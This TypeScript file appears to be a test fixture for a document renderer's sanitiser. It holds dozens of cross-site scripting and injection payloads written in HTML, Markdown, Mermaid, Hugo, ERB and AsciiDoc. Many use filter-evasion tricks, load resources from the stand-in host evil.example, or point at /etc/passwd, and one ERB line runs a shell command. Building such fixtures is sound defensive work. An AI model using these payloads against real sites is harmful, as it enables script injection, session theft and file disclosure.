/**
 * What a text may try against the window that shows it. Each would set `window.__pwned`, open a dialog, or ask somebody else for
 * something, in a window that drew it as its author wished.
 */

const own = 'window.__pwned=1';
const evil = 'https://evil.example';

/** As HTML: in Markdown, in web pages, in labels. */
const htmlAttacks: readonly string[] = [
  `<script>${own}</script>`,
  `<script src="${evil}/x.js"></script>`,
  `<ScRiPt>${own}</sCrIpT>`,
  `<scr<script>ipt>${own}</scr</script>ipt>`,
  `<img src=x onerror="${own}">`,
  `<img src="x" onerror=${own} />`,
  `<img/src=x/onerror=${own}>`,
  `<img src="${evil}/p.png" srcset="${evil}/2x.png 2x" onload="${own}">`,
  `<picture><source srcset="${evil}/s.png"><img src="data:," alt="x"></picture>`,
  `<svg onload="${own}"></svg>`,
  `<svg><script>${own}</script></svg>`,
  `<svg><animate onbegin="${own}" attributeName="x" dur="1s"/></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>`,
  `<svg><image href="${evil}/i.png"/></svg>`,
  `<svg><foreignObject><iframe src="javascript:parent.${own}"></iframe></foreignObject></svg>`,
  `<math><mtext><mglyph><style><img src=x onerror="${own}"></style></mglyph></mtext></math>`,
  `<math href="javascript:${own}">x</math>`,
  `<noscript><p title="</noscript><img src=x onerror=${own}>"></noscript>`,
  `<template><script>${own}</script></template>`,
  `<style>@import url("${evil}/a.css"); body { background: url("${evil}/b.png") }</style>`,
  `<div style="background: url('${evil}/c.png'); position: fixed; inset: 0">over everything</div>`,
  `<b style="behavior: url(#default#time2)" onmouseover="${own}">x</b>`,
  `<link rel="stylesheet" href="${evil}/d.css">`,
  `<link rel="prefetch" href="${evil}/e">`,
  `<iframe src="javascript:parent.${own}"></iframe>`,
  `<iframe srcdoc="<script>parent.${own}</script>"></iframe>`,
  `<iframe src="${evil}/f"></iframe>`,
  `<object data="${evil}/g.swf"></object>`,
  `<embed src="data:text/html,<script>parent.${own}</script>">`,
  `<frameset onload="${own}"><frame src="${evil}/h"></frameset>`,
  `<meta http-equiv="refresh" content="0;url=${evil}/i">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${own}">`,
  `<base href="${evil}/"><a href="relative">x</a>`,
  `<form action="${evil}/j"><input name="token" autofocus onfocus="${own}"><button>Log in</button></form>`,
  `<button formaction="javascript:${own}">x</button>`,
  `<input type="image" src="${evil}/k.png">`,
  `<select autofocus onfocus="${own}"><option>x</option></select>`,
  `<textarea autofocus onfocus="${own}"></textarea>`,
  `<video src="${evil}/l.mp4" poster="${evil}/l.png" autoplay onerror="${own}"></video>`,
  `<audio src="${evil}/m.mp3" autoplay onerror="${own}"></audio>`,
  `<video><source onerror="${own}" src=x></video>`,
  `<details open ontoggle="${own}"><summary onclick="${own}">x</summary>y</details>`,
  `<marquee onstart="${own}">x</marquee>`,
  `<body onload="${own}" background="${evil}/n.png">`,
  `<table background="${evil}/o.png"><tr><td background="${evil}/q.png">x</td></tr></table>`,
  `<a href="javascript:${own}">x</a>`,
  `<a href=" java\tscript:${own}">x</a>`,
  `<a href="&#106;&#97;vascript&colon;${own}">x</a>`,
  `<a href="\u0001javascript:${own}">x</a>`,
  `<a href="data:text/html,<script>opener.${own}</script>">x</a>`,
  `<a href="vbscript:${own}">x</a>`,
  `<a href="file:///etc/passwd" download>x</a>`,
  `<a href="//evil.example/r" target="_top" ping="${evil}/s" onclick="${own}">x</a>`,
  `<area shape="default" href="javascript:${own}"><map name="x"></map>`,
  `<a id="root" name="root">x</a><p id="__pwned">y</p><form id="forms" name="body"></form>`,
  `<p class="hidden" hidden id="main" role="alert" tabindex="1" accesskey="a" contenteditable>x</p>`,
  `<isindex type=image src=1 onerror=${own}>`,
  `<x onclick="${own}" tabindex=1 autofocus onfocus="${own}">x</x>`,
  `<!--><img src=x onerror=${own}>-->`,
  `<![CDATA[<script>${own}</script>]]>`,
  `<?xml-stylesheet href="${evil}/t.css"?>`,
  `</div></section></main><script>${own}</script>`,
  `<portal src="${evil}/u"></portal>`,
];

/** Only Markdown, and what is drawn from it, understands these. */
const markdownAttacks: readonly string[] = [
  `[x](javascript:${own})`,
  `[x](JAVASCRIPT:${own})`,
  `[x](java&#x0A;script:${own})`,
  `[x](<javascript:${own}>)`,
  `[x]( javascript:${own} "title")`,
  `[x](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuX19wd25lZD0xPC9zY3JpcHQ+)`,
  `[x](blob:${evil}/1)`,
  `[x](file:///etc/passwd)`,
  `[x](//evil.example/a)`,
  `[x](\\\\evil.example\\a)`,
  `<javascript:${own}>`,
  `[ref] [ref2][ref]\n\n[ref]: javascript:${own}`,
  `![x](javascript:${own})`,
  `![x](${evil}/a.png)`,
  `![x](//evil.example/b.png)`,
  `![x](data:image/svg+xml,<svg onload=${own}>)`,
  `![x](file:///etc/passwd)`,
  `![x](../../../../../../etc/passwd)`,
  `[![x](${evil}/c.png)](javascript:${own})`,
  `[x](#"><script>${own}</script>)`,
  `[x](x.md#"onmouseover="${own})`,
  `# <a name="x" href="javascript:${own}">heading</a> {#"><script>${own}</script>}`,
  `| a | b |\n|---|---|\n| <img src=x onerror=${own}> | <script>${own}</script> |`,
  `- [ ] <input type=checkbox checked onclick="${own}">`,
  `Text[^1]\n\n[^1]: <img src=x onerror=${own}> [x](javascript:${own})`,
  '```html\n</code></pre><script>' + own + '</script>\n```',
  '```"><script>' + own + '</script>\ncode\n```',
  '```mermaid\ngraph TD\nA["<img src=x onerror=' +
    own +
    '>"] --> B[<script>' +
    own +
    '</script>]\nclick A href "javascript:' +
    own +
    '"\nclick B call ' +
    own +
    '()\nstyle A fill:url(' +
    evil +
    '/d.png)\nclassDef x background:url(' +
    evil +
    '/e.png)\n```',
  '```mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "@import url(' +
    evil +
    '/f.css)"}}%%\nsequenceDiagram\nA->>B: <img src=x onerror=' +
    own +
    '>\nlink A: x @ javascript:' +
    own +
    '\n```',
  '```mermaid\npie title <script>' + own + '</script>\n"a" : 1\n```',
  `> [!NOTE]\n> <script>${own}</script>`,
  `<details><summary>more</summary>\n\n<img src=x onerror=${own}>\n\n[x](javascript:${own})\n\n</details>`,
];

const hugoAttacks: readonly string[] = [
  `{{< figure src="javascript:${own}" alt="<img src=x onerror=${own}>" >}}`,
  `{{< figure src="x\\" onerror=\\"${own}" title="\\"><script>${own}</script>" >}}`,
  `{{< expand "</summary><script>${own}</script>" >}}<script>${own}</script>{{< /expand >}}`,
  `{{< button href="javascript:${own}" >}}x{{< /button >}}`,
  `{{% notice warning "<script>${own}</script>" %}}<iframe src="${evil}/a"></iframe>{{% /notice %}}`,
  `[x]({{< ref "javascript:${own}" >}})`,
];

const erbAttacks: readonly string[] = [
  `<%= link_to "x", "javascript:${own}" %>`,
  `<%= image_tag "${evil}/a.png", alt: "<script>${own}</script>" %>`,
  `<%= \`touch /tmp/owned\` %>`,
  `<script><%= ${own} %></script>`,
];

const asciiDocAttacks: readonly string[] = [
  `++++\n<script>${own}</script>\n<img src=x onerror=${own}>\n++++`,
  `pass:[<script>${own}</script>] +++<img src=x onerror=${own}>+++`,
  `link:javascript:${own}[x]`,
  `link:++javascript:${own}++[x]`,
  `xref:javascript:${own}[x] <<"><script>${own}</script>,x>>`,
  `image::${evil}/a.png[x,link="javascript:${own}"]`,
  `image::javascript:${own}[x]`,
  `video::${evil}/b.mp4[]`,
  `include::${evil}/c.adoc[]`,
  `include::/etc/passwd[]`,
  `[[x" onmouseover="${own}]]\n== Heading`,
  `|===\n|<script>${own}</script> |+++<img src=x onerror=${own}>+++\n|===`,
  `[source,"html\\" onmouseover=\\"${own}"]\n----\n</code></pre><script>${own}</script>\n----`,
  `:evil: <script>${own}</script>\n\n{evil}`,
  `.</b><script>${own}</script>\n====\nx\n====`,
];

const joined = (parts: readonly string[]): string => parts.join('\n\n');

/** Everything, by the way in which it is written. */
export const attacks = {
  html: htmlAttacks,
  /** Shortcodes and tags around each other may end what another began: each kind has a document. */
  files: {
    'html.md': `# Attack by HTML\n\n${joined(htmlAttacks)}\n`,
    'markdown.md': `# Attack by Markdown\n\n${joined(markdownAttacks)}\n`,
    'hugo.md': `---\ntitle: "Attack by Hugo <script>${own}</script>"\n---\n\nAttack\n\n${joined(hugoAttacks)}\n`,
    'erb.html.md.erb': `# Attack by Ruby\n\n${joined(erbAttacks)}\n`,
    'ascii.adoc': `= Attack by AsciiDoc\n\n${joined(asciiDocAttacks)}\n`,
    // The same as steps, which are drawn one by one.
    'steps.md': `# Attack by steps\n\n${[...htmlAttacks, ...markdownAttacks]
      .filter((text) => !text.includes('\n'))
      .map((text) => `1. Step ${text}`)
      .join('\n')}\n`,
  },
  page: `<html><head><title>Attack by page</title></head><body><main><h1>Attack by page</h1><p>${'This page says enough to be one. '.repeat(20)}</p>${htmlAttacks.join('\n<p>and</p>\n')}</main></body></html>`,
} as const;
